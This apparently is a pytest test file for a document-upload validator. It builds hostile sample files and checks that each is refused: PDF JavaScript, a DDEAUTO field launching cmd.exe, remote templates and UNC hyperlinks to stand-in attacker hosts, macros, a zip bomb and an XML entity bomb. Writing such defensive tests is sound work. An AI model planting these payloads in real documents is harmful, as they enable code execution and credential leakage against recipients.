"""Case document files checked by their content: each good kind accepted, each hostile kind refused in words."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document as WordDocument
from openpyxl import Workbook
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from cspr.documents.checks import DOCX, ODT, PDF, XLSX, check_document
from cspr.services.errors import InputError
from tests.publish_kit import blank_pdf

LIMIT = 25 * 1024 * 1024


def docx(text: str = "Terms of reference") -> bytes:
    document = WordDocument()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(*, formula: bool = False) -> bytes:
    book = Workbook()
    book.active["A1"] = 3
    book.active["A2"] = "=SUM(A1:A1)" if formula else 4
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def odt(extra: dict[str, bytes] | None = None, content: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", ODT, compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content or (
            b'<?xml version="1.0"?><office:document-content '
            b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
            b"<text:p>Agency return</text:p></office:text></office:body></office:document-content>"))
        z.writestr("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest '
                   b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>')
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def repacked(data: bytes, changes: dict[str, bytes]) -> bytes:
    """The package with parts added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            if info.filename not in changes:
                z.writestr(info, source.read(info))
        for name, body in changes.items():
            z.writestr(name, body)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def refusal(data: bytes, max_bytes: int = LIMIT) -> str:
    with pytest.raises(InputError) as caught:
        check_document(data, "file", max_bytes)
    message = caught.value.errors["file"]
    assert "_" not in message and message[0].isupper(), message  # words, not codes
    return message


@pytest.mark.parametrize(("make", "media_type", "extension"), [
    (lambda: blank_pdf("terms"), PDF, "pdf"), (docx, DOCX, "docx"), (xlsx, XLSX, "xlsx"), (odt, ODT, "odt")])
def test_each_good_kind_is_accepted_and_named_by_its_content(make, media_type, extension) -> None:
    checked = check_document(make(), "file", LIMIT)
    assert (checked.media_type, checked.extension) == (media_type, extension)


def test_a_pdf_with_javascript_is_refused() -> None:
    assert "JavaScript" in refusal(pdf_with_javascript())


def test_an_html_file_named_pdf_is_refused() -> None:
    message = refusal(b"<!doctype html><html><script>alert(1)</script></html>")
    assert message.startswith("The selected file must be a PDF, Word (DOCX)")


def test_an_oversized_file_is_refused_with_the_limit() -> None:
    assert "smaller than 25 MB" in refusal(b"%PDF-1.7" + b"\0" * (LIMIT + 1))


def test_a_spreadsheet_with_formulas_is_refused() -> None:
    assert "formulas" in refusal(xlsx(formula=True))


def test_macros_are_refused() -> None:
    assert "macros" in refusal(repacked(docx(), {"word/vbaProject.bin": b"\0" * 64}))


def test_embedded_objects_are_refused() -> None:
    assert "embedded objects" in refusal(repacked(docx(), {"word/embeddings/oleObject1.bin": b"\0" * 64}))


def test_links_to_outside_content_are_refused() -> None:
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>")
    assert "outside" in refusal(repacked(docx(), {"word/_rels/settings.xml.rels": rels}))


def _hyperlink(target: str) -> bytes:
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/hyperlink" Target="' + target.encode() + b'" TargetMode="External"/>'
            b"</Relationships>")
    return repacked(docx(), {"word/_rels/document.xml.rels": rels})


def test_a_report_citing_web_pages_and_an_address_is_accepted() -> None:
    for target in ("https://www.gov.uk/government/publications/working-together-to-safeguard-children--2",
                   "mailto:business.unit@doncaster.example.org"):
        assert check_document(_hyperlink(target), "file", LIMIT).extension == "docx"


@pytest.mark.parametrize("target", ["file:///c:/secret.txt", "\\\\attacker.example\\share\\x.docx",
                                    "javascript:alert(1)"])
def test_a_hyperlink_to_a_file_or_a_script_is_refused(target) -> None:
    assert "outside" in refusal(_hyperlink(target))


def test_dde_fields_are_refused() -> None:
    body = (b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
            b'2006/main"><w:body><w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
            b"</w:instrText></w:r></w:p></w:body></w:document>")
    assert "DDE" in refusal(repacked(docx(), {"word/document.xml": body}))


def test_embedded_html_is_refused() -> None:
    assert "HTML" in refusal(odt({"Pictures/page.html": b"<html><script>alert(1)</script></html>"}))


def test_a_zip_bomb_is_refused() -> None:
    parts = {f"Pictures/{n}.png": b"" for n in range(2001)}
    assert "too large or complex" in refusal(odt(parts))


def test_xml_entities_are_refused_as_damaged() -> None:
    bomb = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            b"<x>&b;</x>")
    assert "damaged" in refusal(odt(content=bomb))


def test_an_empty_or_unknown_file_is_refused() -> None:
    assert refusal(b"") == "The selected file is empty"
    assert "must be a PDF" in refusal(b"PK\x03\x04 not really a zip")
